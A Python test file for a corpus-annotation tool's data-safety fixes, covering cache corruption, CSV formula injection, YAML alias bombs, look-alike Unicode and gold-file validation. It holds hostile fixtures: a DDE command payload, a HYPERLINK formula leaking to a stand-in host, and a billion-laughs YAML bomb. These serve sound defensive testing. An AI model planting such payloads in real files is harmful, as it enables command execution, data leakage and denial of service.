"""Issue 23, data safety: nothing a user owns is lost, nothing corrupt is read as data, nothing
hostile gets through. Each case of the issue on a constructed file: a damaged cache part,
spreadsheet formulas in CSV downloads, YAML alias bombs, look-alike and invisible characters in
names, gold files with typos, an undecodable CSV corpus, a multi-line CSV record, a theme
trigger that is an actor's name."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
import yaml

from analysis.annotate.cache import CacheError, annotate_to_cache
from analysis.annotate.lexicon import LexiconError, load_lexicon
from analysis.annotate.pipeline import AnnotatorConfig, build_annotator
from analysis.cli import main
from analysis.corpus.reader import CorpusError, read_corpus
from analysis.csvfile import FORMULA_STARTS, NUMBER, unprefix, write_csv
from analysis.reports.presentation import table
from analysis.reports.render import render_reports
from analysis.reports.reportset import ReportConfigError, load_report_set
from analysis.stats.evaluation import ACTOR_GOLD_COLUMNS, THEME_GOLD_COLUMNS, evaluate, read_gold
from analysis.workflow import annotate_corpus
from analysis.yamlfile import safe_load_unique

ROOT = Path(__file__).resolve().parents[1]
TEXT = "Sadyr Japarov met Vladimir Putin in Moscow. Evil Corp watched the elections in Kyrgyzstan.\n"
LINK = '=HYPERLINK("http://example.com/?leak=1","click")'
SUM = "@SUM(1+1)"
COMMAND = "+cmd|' /C calc'!A0"
# Nine levels of nine aliases: 355 bytes that expand to 9**9 (387 million) strings.
BOMB = "".join(f"{name}: &{name} [{', '.join([f'*{previous}'] * 9)}]\n"
               for previous, name in zip("abcdefgh", "bcdefghi", strict=True))
BOMB = 'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n' + BOMB


@pytest.fixture(scope="module")
def annotator():
    return build_annotator()


def _corpus(folder: Path, texts: dict[str, str]) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, text in texts.items():
        (folder / name).write_text(text, encoding="utf-8")
    return folder


# ---------------------------------------------------------------- a damaged cache part

def _documents() -> pd.DataFrame:
    return pd.DataFrame({"doc_id": ["a"], "text": [TEXT], "date": [pd.NaT], "language": ["en"], "body_start": [0]})


def _damage(file: Path, old: bytes, new: bytes) -> None:
    data = file.read_bytes()
    assert data.count(old) == 1, "the bytes to change are in the file once"
    file.write_bytes(data.replace(old, new))


def test_five_changed_bytes_in_a_mentions_part_are_caught_and_the_part_rebuilt(annotator, tmp_path: Path) -> None:
    """Parquet's footer does not cover the values: 'sadyr' -> 'vladi' used to read as the actor
    vladi-japarov, exit 0, no warning."""
    corpus = _corpus(tmp_path / "corpus", {"a.txt": TEXT})
    cache = tmp_path / "cache"
    config = AnnotatorConfig()
    first = annotate_corpus(corpus, config, cache_dir=cache)
    assert "sadyr-japarov" in set(first.load().mentions["key"])
    part = first.parts.index["part"].iloc[0]
    _damage(first.parts.folder / f"{part}.mentions.parquet", b"sadyr-japarov", b"vladi-japarov")

    again = annotate_corpus(corpus, config, cache_dir=cache)
    keys = set(again.load().mentions["key"])
    assert "sadyr-japarov" in keys and "vladi-japarov" not in keys
    listed = again.problems[again.problems["file"] == str(first.parts.folder / part)]
    assert len(listed) == 1, again.problems
    assert "damaged" in listed["reason"].iloc[0] and "checksum" in listed["reason"].iloc[0]
    assert listed["action"].iloc[0] == "annotated again"
    third = annotate_corpus(corpus, config, cache_dir=cache)  # rebuilt once, then trusted
    assert third.problems.empty and set(third.load().mentions["key"]) == keys


def test_a_damaged_page_header_is_rebuilt_not_a_request_to_rerun(annotator, tmp_path: Path) -> None:
    """A broken page header used to say "run the annotation again to rebuild it" on every run."""
    parts = annotate_to_cache(_documents(), annotator, cache_dir=tmp_path)
    expected = parts.load()
    mention_file = next(parts.folder.glob("part-*.mentions.parquet"))
    data = mention_file.read_bytes()
    mention_file.write_bytes(data[:4] + b"\xff" * 12 + data[16:])  # just after the magic: the first page header
    for run in range(2):
        again = annotate_to_cache(_documents(), annotator, cache_dir=tmp_path)
        assert len(again.problems) == (1 if run == 0 else 0)
        pd.testing.assert_frame_equal(again.load().mentions, expected.mentions)


def test_a_part_changed_after_it_was_indexed_stops_the_run_and_is_rebuilt_next_time(annotator, tmp_path: Path) -> None:
    parts = annotate_to_cache(_documents(), annotator, cache_dir=tmp_path)
    expected = parts.load()
    _damage(next(parts.folder.glob("part-*.mentions.parquet")), b"sadyr-japarov", b"vladi-japarov")
    with pytest.raises(CacheError, match=r"part-\w+ changed while it was in use .*checksum.*it was deleted, and "
                                         "the next run annotates its documents again"):
        parts.load()
    again = annotate_to_cache(_documents(), annotator, cache_dir=tmp_path)
    pd.testing.assert_frame_equal(again.load().mentions, expected.mentions)


# ---------------------------------------------------------------- formulas in CSV cells

def _unsafe_cells(path_or_text: Path | str) -> list[str]:
    """Cells of a CSV a spreadsheet would run as a formula."""
    text = path_or_text.read_text(encoding="utf-8") if isinstance(path_or_text, Path) else path_or_text
    delimiter = "\t" if isinstance(path_or_text, Path) and path_or_text.suffix == ".tsv" else ","
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row
            if cell.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell)]


def test_write_csv_quotes_formulas_and_leaves_numbers_alone() -> None:
    frame = pd.DataFrame({"name": [LINK, SUM, COMMAND, "-3", "\tx", "\r=1", "'=quoted", "plain", None],
                          "value": [-1.5, 2.0, -3.0, 4.0, 5.0, 6.0, 7.0, 8.0, 9.0],
                          "count": [-1, 2, 3, 4, 5, 6, 7, 8, 9]},
                         index=pd.Index(["=a", "b", "c", "d", "e", "f", "g", "h", "i"], name="@label"))
    written = write_csv(frame, index=True)
    header, *rows = csv.reader(io.StringIO(written, newline=""))
    assert header == ["'@label", "name", "value", "count"]
    names = [row[1] for row in rows]
    assert names == ["'" + LINK, "'" + SUM, "'" + COMMAND, "-3", "'\tx", "'\r=1", "''=quoted", "plain", ""]
    assert [row[2] for row in rows] == ["-1.5", "2.0", "-3.0", "4.0", "5.0", "6.0", "7.0", "8.0", "9.0"]
    assert [row[3] for row in rows] == [str(value) for value in frame["count"]]
    assert rows[0][0] == "'=a"
    assert _unsafe_cells(written) == []
    assert [unprefix(name) for name in names] == [*frame["name"].iloc[:-1], ""]  # reading back undoes it


def _hostile_corpus(base: Path) -> tuple[Path, Path]:
    """A .jsonl corpus whose sources and titles are formulas, and a lexicon whose actor is one."""
    corpus = base / "news.jsonl"
    rows = [{"id": "d1", "source": LINK, "title": SUM, "date": "2021-06-03", "text": TEXT},
            {"id": "d2", "source": "-2+3", "title": COMMAND, "date": "2021-06-04",
             "text": "Evil Corp and Sadyr Japarov discussed trade with Russia. Evil Corp praised Kyrgyzstan.\n"}]
    corpus.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    lexicon = base / "evil.yaml"
    lexicon.write_text("actors:\n  - key: evil-corp\n"
                       f"    name: {json.dumps(COMMAND)}\n    category: organization\n    aliases: [Evil Corp]\n",
                       encoding="utf-8")
    return corpus, lexicon


def test_no_csv_the_command_line_writes_has_a_formula_cell(tmp_path: Path, capsys) -> None:
    corpus, lexicon = _hostile_corpus(tmp_path)
    out = tmp_path / "out"
    common = [str(corpus), "--lexicon", str(lexicon), "--cache", str(tmp_path / "cache")]
    assert main(["annotate", *common, "--out", str(out / "tables")]) == 0
    assert main(["cooccurrence", *common, "--out", str(out / "pairs.csv")]) == 0
    assert main(["validation-sheet", *common, "--sample", "2", "--out", str(out / "sheet.tsv")]) == 0
    assert main(["validation-sheet", *common, "--sample", "2", "--out", str(out / "sheet.csv")]) == 0
    assert main(["evaluate", *common, "--gold", str(out / "sheet.tsv"), "--out", str(out / "scores.csv")]) == 0
    capsys.readouterr()
    written = sorted(path for path in out.rglob("*") if path.suffix in (".csv", ".tsv"))
    assert len(written) == 10, written  # 4 tables, pairs, 2 x 2 sheets, scores
    documents = pd.read_csv(out / "tables" / "documents.csv")
    assert set(documents["source"]) == {"'" + LINK, "'-2+3"} and set(documents["title"]) == {"'" + SUM, "'" + COMMAND}
    assert "'" + COMMAND in set(pd.read_csv(out / "tables" / "mentions.csv")["name"])
    for path in written:
        assert _unsafe_cells(path) == [], path
    # a user corrects the sheet and gives it back: the names are the names, not the quoted forms
    for sheet in ("sheet.tsv", "sheet.csv"):
        assert COMMAND in set(read_gold(out / sheet, ACTOR_GOLD_COLUMNS)["name"])


def test_report_tables_download_without_formula_cells(tmp_path: Path) -> None:
    corpus, _ = _hostile_corpus(tmp_path)
    documents, _ = read_corpus(corpus)
    for index in (True, False):
        bundle, metadata = table(documents.set_index("title"), "documents", index=index)._repr_mimebundle_()
        assert metadata["text/csv"]["name"] == "documents"
        assert _unsafe_cells(bundle["text/csv"]) == []
        cells = {cell for row in csv.reader(io.StringIO(bundle["text/csv"], newline="")) for cell in row}
        assert ({"'" + SUM, "'" + COMMAND} <= cells) == index and "'" + LINK in cells  # titles are the index


@pytest.mark.slow
def test_no_report_download_has_a_formula_cell(tmp_path: Path) -> None:
    """The whole report set (overview, entities, networks, themes, profiles) for the hostile
    corpus and lexicon: every CSV download is scanned."""
    corpus, lexicon = _hostile_corpus(tmp_path)
    notebooks = tmp_path / "notebooks"
    shutil.copytree(ROOT / "notebooks", notebooks)
    config = yaml.safe_load((notebooks / "reports.yaml").read_text(encoding="utf-8"))
    for entry in config["reports"]:
        entry["parameters"] = {**(entry.get("parameters") or {}), "lexicon": str(lexicon)}
        entry.pop("for_each_top_actor", None)
        if "{actor_key}" in entry["name"]:
            entry["name"], entry["parameters"]["actor"] = "05-profile-evil-corp", "evil-corp"
            entry["title"] = entry["description"] = "Evil Corp"
    (notebooks / "reports.yaml").write_text(yaml.safe_dump(config), encoding="utf-8")
    out = tmp_path / "reports"
    assert render_reports(corpus=corpus, out=out, config=notebooks / "reports.yaml") == 0
    downloads = sorted(out.glob("*.csv"))
    assert len(downloads) > 10 and any(path.name.startswith("05-profile-evil-corp--") for path in downloads)
    hostile = [path for path in downloads if COMMAND in path.read_text(encoding="utf-8") or
               LINK in path.read_text(encoding="utf-8")]
    assert hostile, "the names reach the downloads (quoted)"
    for path in downloads:
        assert _unsafe_cells(path) == [], path


# ---------------------------------------------------------------- YAML alias bombs

def _run(*arguments: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "analysis", *arguments], capture_output=True, text=True,
                          cwd=ROOT, timeout=300, check=False)


@pytest.mark.parametrize("option, top", [("--lexicon", "actors"), ("--themes", "themes")])
def test_an_alias_bomb_in_a_lexicon_or_theme_file_is_one_line_and_exit_2(tmp_path: Path, option: str,
                                                                          top: str) -> None:
    bomb = tmp_path / "bomb.yaml"
    bomb.write_text(BOMB + f"{top}: [*i]\n", encoding="utf-8")
    assert bomb.stat().st_size < 450
    corpus = _corpus(tmp_path / "corpus", {"a.txt": TEXT})
    result = _run("cooccurrence", str(corpus), option, str(bomb), "--cache", str(tmp_path / "cache"))
    assert result.returncode == 2, result.stderr[-2000:]
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and str(bomb) in lines[0]
    assert "anchors and aliases (&name, *name) are not accepted" in lines[0]
    assert "line 1 is used again" in lines[0]


def test_an_alias_bomb_in_a_report_set_parameter_is_refused(tmp_path: Path) -> None:
    notebooks = tmp_path / "notebooks"
    shutil.copytree(ROOT / "notebooks", notebooks)
    config = notebooks / "reports.yaml"
    config.write_text(BOMB + "reports:\n  - {name: net, notebook: 03_actor_network.ipynb, title: N,"
                             " parameters: {categories: *i}}\n", encoding="utf-8")
    with pytest.raises(ReportConfigError, match=r"reports.yaml:\d+: not valid YAML: anchors and aliases"):
        load_report_set(config, None)


def test_aliases_anywhere_are_refused_with_their_line() -> None:
    with pytest.raises(yaml.YAMLError) as caught:
        safe_load_unique("actors:\n  - key: x\n    name: &n Foo\n    category: person\n    aliases:\n      - *n\n")
    assert caught.value.problem_mark.line + 1 == 6 and "defined at line 3" in caught.value.problem
    with pytest.raises(yaml.YAMLError, match="anchors and aliases"):
        safe_load_unique("a: &x {b: 1}\nc:\n  <<: *x\n")  # a merge key needs an alias too
    assert safe_load_unique("a: [1, 2]\nb: {c: d}\n") == {"a": [1, 2], "b": {"c": "d"}}


def test_a_yaml_file_over_the_size_limit_is_refused_before_parsing(tmp_path: Path) -> None:
    entry = "  - {key: k%d, name: Name Number %d, category: person}\n"
    with pytest.raises(yaml.YAMLError, match=r"over the limit of 0.001 MB"):
        safe_load_unique("actors:\n" + "".join(entry % (n, n) for n in range(100)), max_bytes=1000)
    big = tmp_path / "big.yaml"
    with big.open("w", encoding="utf-8") as handle:
        handle.write("actors:\n")
        for number in range(400_000):  # about 21 MB
            handle.write(entry % (number, number))
    assert big.stat().st_size > 20_000_000
    with pytest.raises(LexiconError, match=r"big.yaml: 2\d.\d MB, over the limit of 20 MB for a YAML data file"):
        load_lexicon(big)


def test_an_error_message_never_formats_a_whole_value(tmp_path: Path) -> None:
    huge = tmp_path / "huge.yaml"
    huge.write_text("actors:\n  - key: x\n    name: X\n    category: person\n    aliases: "
                    + json.dumps({"not": ["a list"] * 100_000}) + "\n", encoding="utf-8")
    with pytest.raises(LexiconError) as caught:
        load_lexicon(huge)
    assert "'aliases' must be a list" in str(caught.value) and len(str(caught.value)) < 300


# ---------------------------------------------------------------- look-alike and invisible characters

LOOKALIKES = {  # each in another city, so no two are the same text once cleaned
    "cyrillic-a.txt": "S\u0430dyr Japarov met Vladimir Putin in Moscow.\n",  # Cyrillic а
    "joiner.txt": "Sadyr Ja\u200dparov met Vladimir Putin in Sochi.\n",  # zero-width joiner
    "soft-hyphen.txt": "Sadyr Ja\u00adparov met Vladimir Putin in Bishkek.\n",
    "non-joiner.txt": "Sadyr\u200c Japarov met Vladimir Putin in Osh.\n",  # zero-width non-joiner
    "override.txt": "Japarov \u202ewins\u202c the vote\n\nSadyr Japarov met Vladimir Putin in Minsk.\n",
}


def test_look_alike_names_are_one_actor_and_each_document_is_listed(tmp_path: Path) -> None:
    corpus = _corpus(tmp_path / "corpus", LOOKALIKES)
    annotated = annotate_corpus(corpus, cache_dir=tmp_path / "cache")
    mentions = annotated.load().mentions
    persons = mentions[(mentions["kind"] == "actor") & (mentions["category"] == "person")]
    japarov = persons[persons["text"].str.contains("Japarov")]
    assert set(japarov["doc_id"]) == {name.removesuffix(".txt") for name in LOOKALIKES}
    assert set(japarov["key"]) == {"sadyr-japarov"}
    assert set(japarov["text"]) <= {"Sadyr Japarov", "Japarov"}
    documents = annotated.documents.set_index("doc_id")
    assert documents.loc["override", "title"] == "Japarov wins the vote"
    assert not documents["text"].str.contains("[\u200b-\u200f\u00ad\u202a-\u202e\u0430]").any()
    listed = {Path(row.file).name: row.reason for row in annotated.problems.itertuples() if row.action == "loaded"}
    assert "'S\u0430dyr' (U+0430 CYRILLIC SMALL LETTER A) as 'Sadyr'" in listed["cyrillic-a.txt"]
    assert listed["joiner.txt"].startswith("1 invisible format character(s) removed (U+200D ZERO WIDTH JOINER)")
    assert "U+00AD SOFT HYPHEN" in listed["soft-hyphen.txt"]
    assert "U+200C ZERO WIDTH NON-JOINER" in listed["non-joiner.txt"]
    assert listed["override.txt"].startswith("2 invisible format character(s) removed")


def test_a_russian_word_with_a_latin_letter_is_read_in_cyrillic(tmp_path: Path) -> None:
    rows = [{"id": "r1", "language": "ru", "title": "Жапар\u006fв и Путин",
             "text": "Президент Садыр Жап\u0061ров встретился с Владимиром Путиным в Москве.\n"}]
    corpus = tmp_path / "ru.jsonl"
    corpus.write_text("".join(json.dumps(row, ensure_ascii=False) + "\n" for row in rows), encoding="utf-8")
    documents, problems = read_corpus(corpus)
    assert "Садыр Жапаров" in documents["text"].iloc[0]
    mixed = "1 word(s) mix Latin and Cyrillic letters; look-alike letters read in the word's main script: "
    assert problems["reason"].tolist() == [
        f"{mixed}'Жапaров' (U+0061 LATIN SMALL LETTER A) as 'Жапаров'",
        f"title: {mixed}'Жапарoв' (U+006F LATIN SMALL LETTER O) as 'Жапаров'"]
    assert problems["line"].tolist() == [1, 1] and problems["action"].tolist() == ["loaded", "loaded"]
    assert documents["title"].iloc[0] == "Жапаров и Путин"


# ---------------------------------------------------------------- gold files

def _gold(tmp_path: Path, rows: list[str], name: str = "gold.tsv") -> Path:
    path = tmp_path / name
    path.write_text("doc\tkind\trequired\tname\taliases\n" + "".join(row + "\n" for row in rows), encoding="utf-8")
    return path


@pytest.mark.parametrize("kind, hint", [("Person", "did you mean 'person'"), ("organisation", "did you mean "
                                        "'organization'"), ("persn", "did you mean 'person'")])
def test_an_unknown_gold_kind_is_an_error_naming_the_line(tmp_path: Path, kind: str, hint: str) -> None:
    path = _gold(tmp_path, ["d1\tcountry\tyes\tRussia\tRussia", f"d1\t{kind}\tyes\tSadyr Japarov\tJaparov"])
    with pytest.raises(ValueError, match=rf"gold.tsv:3: kind '{kind}' is not one of \['person', 'organization', "
                                         rf"'country', 'place', 'source'\] \({hint}\?\)"):
        read_gold(path, ACTOR_GOLD_COLUMNS)


def test_a_repeated_gold_row_is_an_error_naming_both_lines(tmp_path: Path) -> None:
    path = _gold(tmp_path, ["d1\tperson\tyes\tSadyr Japarov\tJaparov", "d1\tcountry\tyes\tRussia\t",
                            "d1\tperson\tno\tSadyr Japarov\t"])
    with pytest.raises(ValueError, match=r"gold.tsv:4: the row \(doc 'd1', kind 'person', name 'Sadyr Japarov'\) "
                                         r"repeats line 2"):
        read_gold(path, ACTOR_GOLD_COLUMNS)
    themes = tmp_path / "themes.tsv"
    themes.write_text("doc\ttheme\trequired\nd1\telections\tyes\nd1\telections\tyes\n", encoding="utf-8")
    with pytest.raises(ValueError, match=r"themes.tsv:3: the row \(doc 'd1', theme 'elections'\) repeats line 2"):
        read_gold(themes, THEME_GOLD_COLUMNS)


def test_gold_documents_not_in_the_corpus_are_listed_and_left_out(tmp_path: Path) -> None:
    mentions = pd.DataFrame({"doc_id": ["d1"], "kind": ["actor"], "category": ["person"], "name": ["Sadyr Japarov"],
                             "key": ["sadyr-japarov"]})
    gold = read_gold(_gold(tmp_path, ["d1\tperson\tyes\tSadyr Japarov\tJaparov",
                                      "d9\tperson\tyes\tVladimir Putin\tPutin",
                                      "d9\tcountry\tyes\tRussia\t"]), ACTOR_GOLD_COLUMNS)
    unchecked = evaluate(mentions, gold, bootstrap=0)  # without the corpus's ids: d9 counts as two misses
    assert unchecked.summary.set_index(["task", "category"]).loc[("actors", "all"), "recall"] == pytest.approx(1 / 3)
    result = evaluate(mentions, gold, bootstrap=0, documents=["d1", "d2"])
    assert result.summary.set_index(["task", "category"]).loc[("actors", "all"), "recall"] == 1.0
    assert result.unmatched.to_dict("records") == [{"task": "actors", "doc": "d9", "rows": 2}]
    with pytest.raises(ValueError, match=r"no gold document is in the corpus: the gold has doc ids such as "
                                         r"\['d1', 'd9'\], the corpus \['x'\]"):
        evaluate(mentions, gold, bootstrap=0, documents=["x"])


def test_evaluate_prints_the_gold_documents_not_in_the_corpus(tmp_path: Path, capsys) -> None:
    corpus = _corpus(tmp_path / "corpus", {"a.txt": TEXT})
    gold = _gold(tmp_path, ["a\tperson\tyes\tSadyr Japarov\tJaparov", "b\tperson\tyes\tVladimir Putin\tPutin"])
    assert main(["evaluate", str(corpus), "--gold", str(gold), "--bootstrap", "10",
                 "--cache", str(tmp_path / "cache")]) == 0
    printed = capsys.readouterr().out
    assert "Gold documents not in the corpus (1), left out of the scores" in printed
    assert "actors   b     1" in printed


# ---------------------------------------------------------------- reading CSV corpora

def test_an_undecodable_csv_given_as_the_corpus_is_an_error(tmp_path: Path, capsys) -> None:
    corpus = tmp_path / "excel.csv"
    corpus.write_bytes("id,text\n1,Caf\xe9 owners met Sadyr Japarov.\n".encode("cp1252"))
    with pytest.raises(CorpusError, match=r"excel.csv: not UTF-8: invalid byte at offset 13; save it as UTF-8 "
                                          r"\(a spreadsheet's plain 'CSV' is often Windows-1252\)"):
        read_corpus(corpus)
    assert main(["corpus", str(corpus)]) == 2
    assert capsys.readouterr().err.count("\n") == 1


def test_a_multi_line_csv_record_is_named_by_its_first_line(tmp_path: Path) -> None:
    corpus = tmp_path / "rows.csv"
    corpus.write_text('id,date,text\nd1,2021-06-03,"one line"\n'
                      'd2,2021-02-30,"first line\nsecond line\nthird line"\n'
                      'd3,,"x"\n', encoding="utf-8")
    documents, problems = read_corpus(corpus)
    assert problems[["line", "reason"]].values.tolist() == [
        [3, "'2021-02-30' is not a date (expected YYYY-MM-DD): day is out of range for month"]]
    assert documents.set_index("doc_id")["path"].to_dict() == {"d1": "rows.csv:2", "d2": "rows.csv:3",
                                                               "d3": "rows.csv:6"}


# ---------------------------------------------------------------- a theme trigger naming an actor

def test_a_user_theme_trigger_that_is_an_actor_name_is_refused(tmp_path: Path) -> None:
    themes = tmp_path / "mine.yaml"
    themes.write_text("themes:\n  - key: leader\n    name: The leader\n    triggers: [Sadyr Japarov, decree]\n",
                      encoding="utf-8")
    with pytest.raises(LexiconError, match=r"mine.yaml: theme 'leader' has the trigger 'sadyr japarov', which is "
                                           r"also a name of the actor 'sadyr-japarov'"):
        build_annotator(themes_path=themes)
    lexicon = tmp_path / "actors.yaml"
    lexicon.write_text("actors:\n  - {key: graft-watch, name: Graft Watch, category: organization, "
                       "aliases: [corruption]}\n", encoding="utf-8")
    with pytest.raises(LexiconError, match=r"actors.yaml: theme 'corruption' has the trigger 'corruption', which "
                                           r"is also a name of the actor 'graft-watch'"):
        build_annotator(lexicon_path=lexicon)
